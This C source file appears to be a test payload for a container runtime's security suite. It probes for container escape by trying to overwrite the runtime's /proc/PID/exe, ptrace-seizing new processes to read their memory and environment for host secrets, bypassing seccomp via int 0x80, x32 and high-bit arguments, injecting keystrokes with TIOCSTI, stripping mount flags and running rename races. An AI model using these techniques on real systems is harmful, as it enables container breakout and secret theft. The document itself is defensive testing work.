/*
 * payload: what an attacker runs inside a container of the tests in this directory. It finds out
 * what it can reach; it does no harm beyond one byte written to what must not be writable.
 *
 *   payload exe [SEIZE]	until /stop exists: opens /proc/PID/exe of all other processes, for
 *			writing and by way of a fd held longer than the process lives; with SEIZE
 *			it also attaches to them by ptrace, to new ones as fast as it can, and
 *			reads /proc/PID/fd, environ, mem and status. Then prints what it has
 *			counted: seized processes that ran the runtime; of these fds above 2
 *			(beyond), host secrets in memory, more rights than its own (stronger),
 *			no filter where it has one itself (unfiltered).
 *   payload stop	stops (SIGSTOP) each new process as soon as there is one
 *   payload syscalls	calls each system call of a table; prints "NAME ERRNO" for each
 *   payload compat	AF_ALG and other ways around a filter: int 0x80, x32
 *   payload sti TEXT	pushes TEXT into each terminal that it can reach (TIOCSTI)
 *   payload flags PATH...	takes each flag away from the mounts at these paths, by two
 *			system calls; prints "PATH: FLAG" for each that went, "PATH: unmounted"
 *   payload swap A B	exchanges two names until it is killed (RENAME_EXCHANGE)
 *
 * By any other name it is a hostile program of an image: it makes CANARY, which exists as a path on
 * the host only.
 */
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <linux/mount.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define CANARY "/tmp/bawn-security-canary/owned"
#define HELD_MAX 32
#define SHOWN_MAX 64

#include "syscalls.h"

/* ---- other processes ---- */

static struct {
	unsigned long looked, foreign, written, seized, listed, beyond, environ, memory, stronger,
		unfiltered;
} count;

static struct stat known[3];
static int held[HELD_MAX];
static size_t held_n, held_at;
static char *shown[SHOWN_MAX];
static size_t shown_n;

/* The container's own programs. All else can only be the runtime. */
static bool is_known(const struct stat *st)
{
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (known[i].st_ino == st->st_ino && known[i].st_dev == st->st_dev)
			return true;
	return false;
}

static void show_once(const char *what, const char *text)
{
	char line[512];

	snprintf(line, sizeof(line), "%s %s", what, text);
	for (size_t i = 0; i < shown_n; i++)
		if (strcmp(shown[i], line) == 0)
			return;
	if (shown_n == SHOWN_MAX)
		return;
	shown[shown_n++] = strdup(line);
	puts(line);
}

/* One byte, by all ways that lead to a page of the file. */
static void try_write(const char *path)
{
	static const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND};

	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		int fd = open(path, modes[i] | O_CLOEXEC);
		void *map;

		if (fd < 0)
			continue;
		if (write(fd, "X", 1) == 1 || ftruncate(fd, 0) == 0)
			count.written++;
		map = mmap(NULL, 4096, PROT_WRITE, MAP_SHARED, fd, 0);
		if (map != MAP_FAILED) {
			count.written++;
			munmap(map, 4096);
		}
		close(fd);
	}
}

/* The process may be gone by now, and with it the reason for ETXTBSY. */
static void try_held(void)
{
	char path[64];

	for (size_t i = 0; i < held_n; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		try_write(path);
	}
}

static void keep(int fd)
{
	if (held_n == HELD_MAX)
		close(held[held_at % HELD_MAX]);
	else
		held_n++;
	held[held_at++ % HELD_MAX] = fd;
}

/* Whether the process still runs the runtime. */
static bool attack_exe(int pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	count.looked++;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (fstat(fd, &st) < 0 || is_known(&st)) {
		close(fd);
		return false;
	}
	count.foreign++;
	try_write(path);
	keep(fd);
	return true;
}

static void list_fds(int pid)
{
	char path[64], target[256];
	struct dirent *de;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	while (d && (de = readdir(d))) {
		ssize_t n = readlinkat(dirfd(d), de->d_name, target, sizeof(target) - 1);

		if (n <= 0)
			continue;
		target[n] = '\0';
		if (strncmp(target, "socket:", 7) != 0)
			show_once("fd", target);
		count.listed++;
		count.beyond += atoi(de->d_name) > 2;
	}
	if (d)
		closedir(d);
}

static void read_environ(int pid)
{
	char path[64], text[65536];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	if (fd >= 0)
		close(fd);
	if (n > 0 && memmem(text, (size_t)n, "HOST_SECRET", 11))
		count.environ++;
}

/* Every byte that can be read. */
static void search_memory(int pid)
{
	char path[64], line[512];
	FILE *maps;
	int mem;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	mem = open(path, O_RDONLY | O_CLOEXEC);
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	while (mem >= 0 && maps && fgets(line, sizeof(line), maps)) {
		unsigned long start, end;
		char *text;
		ssize_t n;

		if (sscanf(line, "%lx-%lx", &start, &end) != 2 || end - start > 64u << 20)
			continue;
		text = malloc(end - start);
		n = pread(mem, text, end - start, (off_t)start);
		if (n > 0 && memmem(text, (size_t)n, "HOST_SECRET", 11)) {
			show_once("memory", line);
			count.memory++;
		}
		free(text);
	}
	if (maps)
		fclose(maps);
	if (mem >= 0)
		close(mem);
}

static unsigned long long status_of(const char *who, const char *field, int base)
{
	char path[64], line[256];
	unsigned long long value = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%s/status", who);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, field, strlen(field)) == 0)
			value = strtoull(line + strlen(field), NULL, base);
	if (f)
		fclose(f);
	return value;
}

static void compare_rights(int pid)
{
	char who[16];

	snprintf(who, sizeof(who), "%d", pid);
	if (status_of(who, "CapPrm:", 16) & ~status_of("self", "CapPrm:", 16))
		count.stronger++;
	if (status_of(who, "Seccomp:", 10) < status_of("self", "Seccomp:", 10))
		count.unfiltered++;
}

static void attack_ptrace(int pid)
{
	char path[64];
	struct stat st;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (stat(path, &st) == 0 && !is_known(&st)) {
		count.seized++;
		list_fds(pid);
		read_environ(pid);
		search_memory(pid);
		compare_rights(pid);
	}
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* Pids are given out in turn: the one that joins next will have one of these. */
static void attack_next(int highest)
{
	for (int i = 0; i < 3000; i++)
		attack_ptrace(highest + 1 + i % 3);
}

static void exe_loop(bool seize)
{
	stat("/proc/self/exe", &known[0]);
	stat("/bin/busybox", &known[1]);
	stat("/bin/probe", &known[2]);
	puts("ready");
	fflush(stdout);
	while (access("/stop", F_OK) < 0) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		int highest = 0;

		while (d && (de = readdir(d))) {
			int pid = atoi(de->d_name);

			highest = pid > highest ? pid : highest;
			if (pid <= 0 || pid == getpid())
				continue;
			if (attack_exe(pid)) {
				list_fds(pid);
				read_environ(pid);
			}
			if (seize)
				attack_ptrace(pid);
		}
		if (d)
			closedir(d);
		try_held();
		if (seize)
			attack_next(highest);
	}
	printf("looked %lu\n", count.looked);
	printf("foreign %lu\nwritten %lu\nseized %lu\nlisted %lu\nenviron %lu\n", count.foreign,
	       count.written, count.seized, count.listed, count.environ);
	printf("beyond %lu\nmemory %lu\nstronger %lu\nunfiltered %lu\n", count.beyond, count.memory,
	       count.stronger, count.unfiltered);
}

static void stop_loop(void)
{
	int next = getpid() + 1;

	puts("ready");
	fflush(stdout);
	for (;;)
		if (kill(next, SIGSTOP) == 0)
			next++;
}

/* ---- system calls ---- */

static void table(void)
{
	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		const struct call *c = &calls[i];
		long r = syscall(c->nr, c->arg[0], c->arg[1], c->arg[2], c->arg[3], c->arg[4]);

		printf("%s %s\n", c->name, r < 0 ? strerrorname_np(errno) : "ok");
		fflush(stdout);
	}
}

#ifdef __x86_64__
/* socketcall(SYS_SOCKET, {AF_ALG, SOCK_SEQPACKET, 0}); the 32-bit call needs a low address. */
static long int80_socket(void)
{
	uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long r;

	if (args == MAP_FAILED)
		return -ENOMEM;
	args[0] = 38, args[1] = 5, args[2] = 0;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(102L), "b"(1L), "c"(args) : "memory");
	return (int)r;
}
#else
static long int80_socket(void)
{
	return -ENOSYS;
}
#endif

static long x32_socket(void)
{
	long r = syscall(0x40000000L + SYS_socket, 38, 5, 0);

	return r < 0 ? -errno : r;
}

static long x32_getpid(void)
{
	long r = syscall(0x40000000L + SYS_getpid);

	return r < 0 ? -errno : r;
}

static long plain_alg(void)
{
	long r = syscall(SYS_socket, 38, 5, 0);

	return r < 0 ? -errno : r;
}

/* The upper half of an int argument: the kernel does not look at it, a filter might. */
static long high_alg(void)
{
	long r = syscall(SYS_socket, 0x100000000L + 38, 5, 0);

	return r < 0 ? -errno : r;
}

static long high_tiocsti(void)
{
	long r = syscall(SYS_ioctl, 0, 0x100000000L + TIOCSTI, "X");

	return r < 0 ? -errno : r;
}

static void in_child(const char *name, long (*f)(void))
{
	int status = 0;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		long r = f();

		printf("%s %s\n", name, r < 0 ? strerrorname_np((int)-r) : "ok");
		fflush(stdout);
		_exit(0);
	}
	if (pid < 0)
		err(1, "fork");
	waitpid(pid, &status, 0);
	if (WIFSIGNALED(status))
		printf("%s SIG%s\n", name, sigabbrev_np(WTERMSIG(status)));
}

static void compat(void)
{
	in_child("alg", plain_alg);
	in_child("alg-high", high_alg);
	in_child("int80", int80_socket);
	in_child("x32", x32_socket);
	in_child("x32-getpid", x32_getpid);
	in_child("tiocsti-high", high_tiocsti);
}

/* ---- terminals ---- */

static void push(const char *name, int fd, const char *text)
{
	int pushed = 0;

	if (fd < 0) {
		printf("%s: %s\r\n", name, strerrorname_np(errno));
		return;
	}
	for (const char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) == 0)
			pushed++;
	printf("%s: pushed %d\r\n", name, pushed);
}

static void sti(const char *text)
{
	static const char *const paths[] = {"/dev/tty", "/dev/console", "/proc/1/fd/0"};

	for (int fd = 0; fd <= 2; fd++) {
		char name[16];

		snprintf(name, sizeof(name), "fd %d", fd);
		push(name, fd, text);
		/* A terminal that is nobody's, or that can be stolen. */
		setsid();
		ioctl(fd, TIOCSCTTY, 0);
		ioctl(fd, TIOCSCTTY, 1);
		push(name, fd, text);
	}
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
		push(paths[i], open(paths[i], O_RDWR), text);
	fflush(stdout);
}

/* ---- on the host ---- */

static void swap(const char *a, const char *b)
{
	puts("ready");
	fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0)
			err(1, "exchange %s and %s", a, b);
}

/* ---- mount flags ---- */

static const struct {
	const char *name;
	unsigned long attr, flag;	/* of mount_setattr(2), of mount(2) */
} mount_flags[] = {
	{"ro", MOUNT_ATTR_RDONLY, MS_RDONLY},
	{"nosuid", MOUNT_ATTR_NOSUID, MS_NOSUID},
	{"nodev", MOUNT_ATTR_NODEV, MS_NODEV},
	{"noexec", MOUNT_ATTR_NOEXEC, MS_NOEXEC},
};

/* With all flags but one, all of which a mount here has at first. */
static bool remount_without(const char *path, unsigned long flag)
{
	unsigned long flags = MS_REMOUNT | MS_BIND | MS_RELATIME;

	for (size_t i = 0; i < sizeof(mount_flags) / sizeof(*mount_flags); i++)
		flags |= mount_flags[i].flag;
	return syscall(SYS_mount, NULL, path, NULL, flags & ~flag, NULL) == 0;
}

static void take_flags(const char *path)
{
	for (size_t i = 0; i < sizeof(mount_flags) / sizeof(*mount_flags); i++) {
		struct mount_attr attr = {.attr_clr = mount_flags[i].attr};

		if (remount_without(path, mount_flags[i].flag) ||
		    syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attr, sizeof(attr)) == 0)
			printf("%s: %s\n", path, mount_flags[i].name);
	}
	if (syscall(SYS_umount2, path, 0) == 0)
		printf("%s: unmounted\n", path);
}

int main(int argc, char **argv)
{
	const char *name = strrchr(argv[0], '/');
	const char *what = argc > 1 ? argv[1] : "";

	name = name ? name + 1 : argv[0];
	if (strncmp(name, "payload", 7) != 0) {
		close(open(CANARY, O_WRONLY | O_CREAT, 0644));
		return 0;
	}
	if (strcmp(what, "exe") == 0)
		exe_loop(argc > 2);
	else if (strcmp(what, "stop") == 0)
		stop_loop();
	else if (strcmp(what, "syscalls") == 0)
		table();
	else if (strcmp(what, "compat") == 0)
		compat();
	else if (strcmp(what, "sti") == 0 && argc == 3)
		sti(argv[2]);
	else if (strcmp(what, "flags") == 0)
		for (int i = 2; i < argc; i++)
			take_flags(argv[i]);
	else if (strcmp(what, "swap") == 0 && argc == 4)
		swap(argv[2], argv[3]);
	else
		errx(2, "unknown command");
	return 0;
}
